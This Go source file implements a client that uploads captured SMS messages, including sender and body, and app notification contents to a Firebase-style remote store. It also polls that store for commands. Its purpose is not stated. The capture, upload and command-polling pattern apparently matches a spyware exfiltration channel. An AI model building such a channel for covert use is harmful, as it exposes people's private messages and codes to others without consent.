package uplink

import (
	"bytes"
	"context"
	"encoding/json"
	"fmt"
	"io"
	"net/http"
	"net/url"
	"strconv"
	"strings"
	"time"

	"golang.org/x/time/rate"

	"syncwire/internal/capture"
	logx "syncwire/pkg/logx"
)

// KeypathConfig configures the realtime keypath store client.
type KeypathConfig struct {
	BaseURL string
	Root    string // optional path prefix under the store root
	Auth    string // query token; appended as ?auth=... (do not log)
	Device  string

	RatePerSec int           // token bucket on writes; 0 means 10
	Timeout    time.Duration // per-request; 0 means 10s
	RetryMax   int           // extra attempts on 5xx/network errors; 0 means 2
}

// KeypathClient talks to a Firebase-RTDB-shaped REST store: every node is
// addressed by a slash path and read/written as JSON at {path}.json.
//
// Immediate-mode writes can be high-rate, so writes go through a token
// bucket; reads (command polling) do not.
type KeypathClient struct {
	cfg     KeypathConfig
	http    *http.Client
	limiter *rate.Limiter
	log     logx.Logger
}

func NewKeypath(cfg KeypathConfig, log logx.Logger) *KeypathClient {
	if log.IsZero() {
		log = logx.Nop()
	}
	if cfg.RatePerSec <= 0 {
		cfg.RatePerSec = 10
	}
	if cfg.Timeout <= 0 {
		cfg.Timeout = 10 * time.Second
	}
	if cfg.RetryMax <= 0 {
		cfg.RetryMax = 2
	}
	cfg.BaseURL = strings.TrimRight(strings.TrimSpace(cfg.BaseURL), "/")
	cfg.Root = strings.Trim(strings.TrimSpace(cfg.Root), "/")
	return &KeypathClient{
		cfg:     cfg,
		http:    &http.Client{Timeout: cfg.Timeout},
		limiter: rate.NewLimiter(rate.Limit(cfg.RatePerSec), cfg.RatePerSec),
		log:     log,
	}
}

// Push writes one event at its stream/device/timestamp path.
//
// SMS values are the legacy tilde-joined string "direction~sender~body";
// notification values are a JSON object carrying the extras. Both shapes
// are what the backend's keypath importer already parses.
func (c *KeypathClient) Push(ctx context.Context, ev capture.Event) error {
	node := "message"
	if ev.Stream == capture.StreamNotification {
		node = "notification"
	}
	path := c.join(node, c.cfg.Device, strconv.FormatInt(ev.Timestamp, 10))

	var value any
	if ev.Stream == capture.StreamSMS {
		value = ev.Direction() + "~" + ev.Sender + "~" + ev.Body
	} else {
		obj := map[string]any{
			"package": ev.Sender,
			"title":   ev.Title(),
			"text":    ev.Body,
		}
		for _, kv := range ev.Extra {
			if kv.Key == capture.ExtraTitle {
				continue
			}
			obj[kv.Key] = kv.Value
		}
		value = obj
	}

	return c.put(ctx, path, value)
}

// PutBlob writes an arbitrary JSON value at path (used by the backup
// exporter). The path is relative to the configured root.
func (c *KeypathClient) PutBlob(ctx context.Context, path string, v any) error {
	return c.put(ctx, c.join(path), v)
}

// GetText reads a string node. Returns ok=false when the node is absent
// (JSON null) or not a string.
func (c *KeypathClient) GetText(ctx context.Context, path string) (string, bool, error) {
	body, err := c.do(ctx, http.MethodGet, c.join(path), nil)
	if err != nil {
		return "", false, err
	}
	var s string
	if err := json.Unmarshal(body, &s); err != nil {
		// null or non-string node
		return "", false, nil
	}
	if s == "" {
		return "", false, nil
	}
	return s, true, nil
}

// Delete removes the node at path. Deleting an absent node succeeds.
func (c *KeypathClient) Delete(ctx context.Context, path string) error {
	_, err := c.do(ctx, http.MethodDelete, c.join(path), nil)
	return err
}

func (c *KeypathClient) put(ctx context.Context, path string, v any) error {
	if err := c.limiter.Wait(ctx); err != nil {
		return err
	}
	payload, err := json.Marshal(v)
	if err != nil {
		return fmt.Errorf("keypath encode: %w", err)
	}
	_, err = c.do(ctx, http.MethodPut, path, payload)
	return err
}

func (c *KeypathClient) join(parts ...string) string {
	segs := make([]string, 0, len(parts)+1)
	if c.cfg.Root != "" {
		segs = append(segs, c.cfg.Root)
	}
	for _, p := range parts {
		p = strings.Trim(p, "/")
		if p != "" {
			segs = append(segs, p)
		}
	}
	return strings.Join(segs, "/")
}

func (c *KeypathClient) nodeURL(path string) string {
	u := c.cfg.BaseURL + "/" + path + ".json"
	if c.cfg.Auth != "" {
		u += "?auth=" + url.QueryEscape(c.cfg.Auth)
	}
	return u
}

// do performs one request with a small bounded retry on transport errors
// and 5xx responses. 4xx responses fail immediately.
func (c *KeypathClient) do(ctx context.Context, method, path string, payload []byte) ([]byte, error) {
	var lastErr error
	attempts := 1 + c.cfg.RetryMax
	for attempt := 1; attempt <= attempts; attempt++ {
		var body io.Reader
		if payload != nil {
			body = bytes.NewReader(payload)
		}
		req, err := http.NewRequestWithContext(ctx, method, c.nodeURL(path), body)
		if err != nil {
			return nil, err
		}
		if payload != nil {
			req.Header.Set("Content-Type", "application/json")
		}

		resp, err := c.http.Do(req)
		if err != nil {
			lastErr = err
		} else {
			data, rerr := io.ReadAll(io.LimitReader(resp.Body, 1<<20))
			_ = resp.Body.Close()
			switch {
			case rerr != nil:
				lastErr = rerr
			case resp.StatusCode >= 200 && resp.StatusCode < 300:
				return data, nil
			case resp.StatusCode >= 500:
				lastErr = fmt.Errorf("keypath %s %s: status %d", method, path, resp.StatusCode)
			default:
				return nil, fmt.Errorf("keypath %s %s: status %d", method, path, resp.StatusCode)
			}
		}

		if attempt >= attempts {
			break
		}
		delay := time.Duration(attempt) * 250 * time.Millisecond
		c.log.Debug("keypath retry", logx.String("path", path), logx.Int("attempt", attempt), logx.Err(lastErr))
		select {
		case <-ctx.Done():
			return nil, ctx.Err()
		case <-time.After(delay):
		}
	}
	return nil, lastErr
}
